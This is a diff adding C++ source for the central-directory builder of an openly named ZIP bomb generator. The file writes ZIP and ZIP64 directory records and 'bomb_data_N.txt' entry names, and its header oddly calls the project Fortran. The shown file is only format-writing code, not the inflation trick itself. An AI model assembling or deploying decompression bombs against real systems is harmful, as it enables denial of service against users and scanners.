@@ -0,0 +1,225 @@
+/**
+ * ============================================================================
+ * Fortran ZIP炸弹项目 - 中央目录构建器实现
+ * ============================================================================
+ */
+
+#include "central_directory.h"
+#include "zip_format.h"
+#include <algorithm>
+#include <cstring>
+
+namespace ZipBombGenerator {
+
+namespace {
+
+const char ENTRY_NAME_PREFIX[] = "bomb_data_";
+const char ENTRY_NAME_SUFFIX[] = ".txt";
+constexpr size_t ENTRY_NAME_FIXED = sizeof(ENTRY_NAME_PREFIX) - 1 + sizeof(ENTRY_NAME_SUFFIX) - 1;
+
+/** 中央目录条目需要的ZIP64值个数 (原始大小、压缩后大小、本地头偏移) */
+inline unsigned zip64_value_count(const CentralDirRecord& r) {
+    return (r.uncompressed_size >= ZIP64_LIMIT_32 ? 1 : 0) +
+           (r.compressed_size >= ZIP64_LIMIT_32 ? 1 : 0) +
+           (r.local_header_offset >= ZIP64_LIMIT_32 ? 1 : 0);
+}
+
+inline uint64_t entry_size(const CentralDirRecord& r) {
+    unsigned n = zip64_value_count(r);
+    return sizeof(ZipCentralDirHeader) + r.name_length +
+           (n ? sizeof(ZipExtraFieldHeader) + n * sizeof(uint64_t) : 0);
+}
+
+inline uint8_t* put(uint8_t* dst, const void* src, size_t len) {
+    std::memcpy(dst, src, len);
+    return dst + len;
+}
+
+} // namespace
+
+// ============================================================================
+// 构建
+// ============================================================================
+
+void CentralDirectoryBuilder::reserve(uint64_t entries, uint64_t name_bytes) {
+    records_.reserve(static_cast<size_t>(entries));
+    names_.reserve(static_cast<size_t>(std::min<uint64_t>(name_bytes, UINT32_MAX)));
+}
+
+size_t CentralDirectoryBuilder::add(const char* name, uint16_t name_length,
+                                    uint64_t local_header_offset, uint64_t compressed_size,
+                                    uint64_t uncompressed_size, uint32_t crc32, uint16_t flags) {
+    if (names_.size() + name_length > UINT32_MAX) return SIZE_MAX;
+
+    CentralDirRecord r;
+    r.local_header_offset = local_header_offset;
+    r.compressed_size = compressed_size;
+    r.uncompressed_size = uncompressed_size;
+    r.crc32 = crc32;
+    r.name_offset = static_cast<uint32_t>(names_.size());
+    r.name_length = name_length;
+    r.flags = flags;
+
+    names_.insert(names_.end(), name, name + name_length);
+    records_.push_back(r);
+    return records_.size() - 1;
+}
+
+// ============================================================================
+// 序列化
+// ============================================================================
+
+uint64_t CentralDirectoryBuilder::central_dir_size() const {
+    uint64_t size = 0;
+    for (const auto& r : records_) size += entry_size(r);
+    return size;
+}
+
+uint64_t CentralDirectoryBuilder::serialized_size(uint64_t central_dir_offset) const {
+    const uint64_t cd_size = central_dir_size();
+    const bool zip64 = records_.size() >= ZIP64_LIMIT_16 ||
+                       cd_size >= ZIP64_LIMIT_32 ||
+                       central_dir_offset >= ZIP64_LIMIT_32;
+    return cd_size +
+           (zip64 ? sizeof(Zip64EndOfCentralDir) + sizeof(Zip64EndOfCentralDirLocator) : 0) +
+           sizeof(ZipEndOfCentralDir);
+}
+
+/**
+ * 序列化中央目录
+ *
+ * 溢出的大小/偏移写入ZIP64扩展信息字段；条目数、目录大小或偏移溢出时
+ * 额外写入ZIP64结束记录及其定位器
+ */
+std::vector<uint8_t> CentralDirectoryBuilder::serialize(uint64_t central_dir_offset) const {
+    const uint64_t cd_size = central_dir_size();
+    const uint64_t total_entries = records_.size();
+    const bool zip64 = total_entries >= ZIP64_LIMIT_16 ||
+                       cd_size >= ZIP64_LIMIT_32 ||
+                       central_dir_offset >= ZIP64_LIMIT_32;
+
+    std::vector<uint8_t> buffer(static_cast<size_t>(serialized_size(central_dir_offset)));
+    uint8_t* out = buffer.data();
+
+    for (const auto& r : records_) {
+        // ZIP64字段只包含溢出的值，顺序固定为: 原始大小、压缩后大小、本地头偏移
+        uint64_t zip64_values[3];
+        uint16_t zip64_count = 0;
+        if (r.uncompressed_size >= ZIP64_LIMIT_32) zip64_values[zip64_count++] = r.uncompressed_size;
+        if (r.compressed_size >= ZIP64_LIMIT_32) zip64_values[zip64_count++] = r.compressed_size;
+        if (r.local_header_offset >= ZIP64_LIMIT_32) zip64_values[zip64_count++] = r.local_header_offset;
+
+        ZipCentralDirHeader header = {};
+        header.signature = ZIP_CENTRAL_HEADER_SIG;
+        header.version_made = zip64_count ? ZIP_VERSION_ZIP64 : ZIP_VERSION_DEFAULT;
+        header.version_needed = zip64_count ? ZIP_VERSION_ZIP64 : ZIP_VERSION_DEFAULT;
+        header.flags = r.flags;
+        header.compression = 8;
+        header.mod_time = 0;
+        header.mod_date = 0;
+        header.crc32 = r.crc32;
+        header.compressed_size = static_cast<uint32_t>(std::min(r.compressed_size, ZIP64_LIMIT_32));
+        header.uncompressed_size = static_cast<uint32_t>(std::min(r.uncompressed_size, ZIP64_LIMIT_32));
+        header.filename_length = r.name_length;
+        header.extra_length = zip64_count
+            ? static_cast<uint16_t>(sizeof(ZipExtraFieldHeader) + zip64_count * sizeof(uint64_t)) : 0;
+        header.comment_length = 0;
+        header.disk_start = 0;
+        header.internal_attr = 0;
+        header.external_attr = 0;
+        header.local_header_offset = static_cast<uint32_t>(std::min(r.local_header_offset, ZIP64_LIMIT_32));
+
+        out = put(out, &header, sizeof(header));
+        out = put(out, names_.data() + r.name_offset, r.name_length);
+        if (zip64_count) {
+            ZipExtraFieldHeader extra = {ZIP64_EXTRA_ID, static_cast<uint16_t>(zip64_count * sizeof(uint64_t))};
+            out = put(out, &extra, sizeof(extra));
+            out = put(out, zip64_values, zip64_count * sizeof(uint64_t));
+        }
+    }
+
+    const uint64_t central_dir_end = central_dir_offset + cd_size;
+
+    if (zip64) {
+        Zip64EndOfCentralDir end_record64 = {};
+        end_record64.signature = ZIP64_EOCD_SIG;
+        end_record64.record_size = sizeof(Zip64EndOfCentralDir) - 12;
+        end_record64.version_made = ZIP_VERSION_ZIP64;
+        end_record64.version_needed = ZIP_VERSION_ZIP64;
+        end_record64.disk_number = 0;
+        end_record64.disk_start = 0;
+        end_record64.entries_on_disk = total_entries;
+        end_record64.total_entries = total_entries;
+        end_record64.central_dir_size = cd_size;
+        end_record64.central_dir_offset = central_dir_offset;
+
+        Zip64EndOfCentralDirLocator locator = {};
+        locator.signature = ZIP64_EOCD_LOCATOR_SIG;
+        locator.disk_start = 0;
+        locator.eocd64_offset = central_dir_end;
+        locator.total_disks = 1;
+
+        out = put(out, &end_record64, sizeof(end_record64));
+        out = put(out, &locator, sizeof(locator));
+    }
+
+    // 目录结束记录（溢出字段填0xFFFF/0xFFFFFFFF，由ZIP64记录给出真实值）
+    ZipEndOfCentralDir end_record = {};
+    end_record.signature = ZIP_EOCD_SIG;
+    end_record.disk_number = 0;
+    end_record.disk_start = 0;
+    end_record.entries_on_disk = static_cast<uint16_t>(std::min(total_entries, ZIP64_LIMIT_16));
+    end_record.total_entries = static_cast<uint16_t>(std::min(total_entries, ZIP64_LIMIT_16));
+    end_record.central_dir_size = static_cast<uint32_t>(std::min(cd_size, ZIP64_LIMIT_32));
+    end_record.central_dir_offset = static_cast<uint32_t>(std::min(central_dir_offset, ZIP64_LIMIT_32));
+    end_record.comment_length = 0;
+    put(out, &end_record, sizeof(end_record));
+
+    return buffer;
+}
+
+// ============================================================================
+// 文件名
+// ============================================================================
+
+size_t format_entry_name(uint64_t index, char* out) {
+    char digits[20];
+    size_t n = 0;
+    do {
+        digits[n++] = static_cast<char>('0' + index % 10);
+        index /= 10;
+    } while (index);
+
+    char* p = out;
+    std::memcpy(p, ENTRY_NAME_PREFIX, sizeof(ENTRY_NAME_PREFIX) - 1);
+    p += sizeof(ENTRY_NAME_PREFIX) - 1;
+    while (n) *p++ = digits[--n];
+    std::memcpy(p, ENTRY_NAME_SUFFIX, sizeof(ENTRY_NAME_SUFFIX) - 1);
+    p += sizeof(ENTRY_NAME_SUFFIX) - 1;
+    return static_cast<size_t>(p - out);
+}
+
+size_t entry_name_length(uint64_t index) {
+    size_t digits = 1;
+    while (index >= 10) {
+        index /= 10;
+        digits++;
+    }
+    return ENTRY_NAME_FIXED + digits;
+}
+
+uint64_t entry_name_bytes(uint64_t count) {
+    // 按十进制位数分段累加: [0,10)为1位，[10,100)为2位……
+    uint64_t total = count * ENTRY_NAME_FIXED;
+    uint64_t low = 0;
+    uint64_t high = 10;
+    for (uint64_t digits = 1; low < count; digits++) {
+        const uint64_t end = std::min(count, high);
+        total += (end - low) * digits;
+        low = high;
+        high = high > UINT64_MAX / 10 ? UINT64_MAX : high * 10;
+    }
+    return total;
+}
+
+} // namespace ZipBombGenerator